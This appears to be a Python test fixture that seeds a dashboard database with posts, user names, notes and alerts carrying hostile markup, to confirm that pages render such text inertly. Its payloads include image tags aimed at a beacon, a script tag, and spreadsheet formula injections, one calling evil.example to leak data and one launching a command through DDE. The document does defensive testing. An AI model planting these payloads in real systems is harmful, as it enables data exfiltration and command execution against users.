"""A store where every text that came from outside carries markup aimed at one beacon address.

Post titles, authors and bodies, product and source names, a source's error, user names (the
one signed in, the one holding a case and acknowledging an alert), a note, a reply's text, an
alert's terms and posts, a refused action: each holds a Markdown image, an HTML image, a
link, a colour directive, KaTeX, bold, a script tag, a shortcode and an arrow. A page that
interprets any of it either fetches from the beacon or shows something other than the text.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta

from collectors.base import Post
from data import ScoredPost, SourceSpec, connect, save_batch, sync_sources
from data.access import Actor, Refused
from data.alerts import acknowledge_alert, list_alerts
from data.cases import add_note, claim_case, reply_case
from data.queue import QueueFilter, ranked_cases
from data.sources import finish_run, start_run
from data.users import add_user
from hundredfold.alerting import evaluate_alerts
from hundredfold.config import config_from_table
from tests.dashboard.signed_in import PASSWORD
from tests.data.alert_history import ANGRY, everyday_posts

FORMULAS = ('=HYPERLINK("http://evil.example/?leak","click")', "=cmd|' /C calc'!A0", "+1",
            "-1+1", "@SUM(1)")  # fmt: skip


def hostile(field: str, beacon: str) -> str:
    """Text for `field` carrying every kind of markup, its images and link at `beacon`."""
    return (
        f"{field} ![]({beacon}/m-{field}) <img src={beacon}/i-{field}> [go]({beacon}/a) "
        f":red[red] $\\frac{{a}}{{b}}$ **bold** <script>alert(1)</script> :smile: ->"
    )


@dataclass(frozen=True)
class HostileStore:
    """What a test needs to know about the store it was given."""

    url: str
    viewer: str  # an admin: every page opens for them
    claimer: str  # a lead holding the top case, who acknowledged the alert
    held_case: int


def hostile_store(url: str, beacon: str, now: datetime) -> HostileStore:
    """Fill the database at `url`: a week of ordinary complaints, then a burst of hostile ones."""
    engine = connect(url)
    viewer, claimer = hostile("viewer", beacon), hostile("claimer", beacon)
    add_user(engine, None, viewer, "admin", PASSWORD)
    add_user(engine, None, claimer, "lead", PASSWORD)
    specs = [SourceSpec("forum", "rss", "forum", {}, 900),
             SourceSpec(hostile("source", beacon), "rss", "forum", {}, 900)]  # fmt: skip
    ordinary, loud = (sync_sources(engine, specs)[spec.name] for spec in specs)
    # Ordinary posts end before the SLA: the hostile ones lead the queue.
    ordinary_posts = everyday_posts(now - timedelta(days=8), now - timedelta(hours=7))
    save_batch(engine, ordinary.id, "forum", ordinary_posts, {}, now=now, threshold=0.5)
    burst = [
        ScoredPost(
            Post(f"h{n}", f"{hostile('body', beacon)} #{n}", title=hostile("title", beacon),
                 author=hostile("author", beacon), url=f"{beacon}/post/{n}",
                 published_at=now - timedelta(minutes=50 - n * 2), score=1000 + n),
            "en", ANGRY, ["delivery"], product=hostile("product", beacon),
        )
        for n in range(25)
    ] + [
        ScoredPost(Post(f"f{n}", formula, title=formula, author=formula,
                        published_at=now - timedelta(minutes=30)), "en", ANGRY)
        for n, formula in enumerate(FORMULAS)
    ]  # fmt: skip
    save_batch(engine, loud.id, "forum", burst, {}, now=now, threshold=0.5)
    run = start_run(engine, loud.id, now)
    finish_run(engine, loud.id, run, now=now, every_seconds=900, counts={},
               error=hostile("error", beacon), warning=None)  # fmt: skip

    evaluate_alerts(config_from_table({}), engine, now)
    lead = Actor(claimer, "lead")
    for alert in list_alerts(engine, now):
        acknowledge_alert(engine, alert["id"], lead, now)
    ranked = list(ranked_cases(engine, QueueFilter(view="next", now=now))["case_id"])
    held, replied = int(ranked[0]), int(ranked[1])
    claim_case(engine, held, lead, now)
    add_note(engine, held, lead, hostile("note", beacon), now)
    claim_case(engine, replied, lead, now)
    reply_case(engine, replied, lead, now, "https://forum.example/r", hostile("reply", beacon),
               include_duplicates=False)  # fmt: skip
    try:  # a lead may not add users: the refusal, with its names, is on the Users page
        add_user(engine, lead, hostile("newcomer", beacon), "manager", PASSWORD)
    except Refused:
        pass
    engine.dispose()
    return HostileStore(url, viewer, claimer, held)
